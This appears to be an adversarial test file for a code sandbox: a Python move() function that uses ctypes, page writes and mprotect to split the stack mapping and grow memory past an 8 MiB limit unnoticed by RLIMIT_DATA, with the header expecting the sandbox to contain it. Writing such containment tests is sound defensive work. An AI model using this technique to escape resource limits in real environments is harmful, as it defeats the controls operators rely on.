# attack: memory
# expect: contained
# verdict: move exception crash
# turns: 1
# note: splits the stack's mapping, so that the lower piece may grow by the whole limit again: RLIMIT_DATA counts none of it
import ctypes, resource

PAGE = 4096
PIECE = 7 << 20


def move(observation):
    libc = ctypes.CDLL(None)
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    low = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value & ~(PAGE - 1)
    wanted = low - (64 << 20)
    low -= PIECE
    while low > wanted:
        for page in range(low + PIECE, low - 1, -PAGE):
            ctypes.memset(page, 1, 8)
        if libc.mprotect(low + PAGE, PAGE, 1) != 0:
            return observation["legal"][0]
        low -= PIECE
    return "PWNED the stack has 64 MiB, the limit is 8"
